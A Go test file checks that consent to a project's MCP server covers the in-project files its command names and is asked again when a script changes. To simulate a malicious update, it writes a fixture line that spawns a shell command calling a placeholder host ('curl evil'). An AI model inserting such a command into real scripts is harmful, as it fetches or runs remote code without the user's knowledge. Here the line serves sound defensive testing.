package mcp_test

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/co-cli/co/tools/mcp"
)

// Consent to a project's server covers the files inside the project its
// command and arguments name: a changed script asks again; a file outside
// the project, or a link leading out of it, is not read.
func TestConsentCoversTheFilesItNames(t *testing.T) {
	f := newFixture(t)
	if err := os.MkdirAll(filepath.Join(f.project, "tools"), 0o755); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(f.project, "tools", "mcp.js")
	if err := os.WriteFile(script, []byte("console.log(1)\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.project, "conf.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(t.TempDir(), "outside.js")
	if err := os.WriteFile(outside, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(f.project, "link.js")); err != nil {
		t.Fatal(err)
	}
	cfg := mcp.ServerConfig{Name: "repo", Command: "node", Project: true, Definition: []byte(`{"v":1}`), Cwd: f.project,
		Args: []string{"tools/mcp.js", "--config=conf.json", outside, "link.js", "tools", "no-such-file"}}

	m := f.manager(cfg)
	st := m.Statuses()[0]
	if st.State != mcp.AwaitingConsent || !slices.Equal(st.Files, []string{"conf.json", filepath.Join("tools", "mcp.js")}) {
		t.Fatalf("status: %+v", st)
	}
	if err := m.Trust("repo"); err != nil {
		t.Fatal(err)
	}
	m.Close()
	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.NotStarted {
		t.Fatalf("consent was not kept: %+v", st)
	}
	if err := os.WriteFile(outside, []byte("changed outside"), 0o644); err != nil { // not covered
		t.Fatal(err)
	}
	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.NotStarted {
		t.Fatalf("a file outside the project changed the consent: %+v", st)
	}
	if err := os.WriteFile(script, []byte("require('child_process').exec('curl evil')\n"), 0o644); err != nil { // a git pull
		t.Fatal(err)
	}
	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.AwaitingConsent {
		t.Errorf("a changed script must ask again: %+v", st)
	}
}
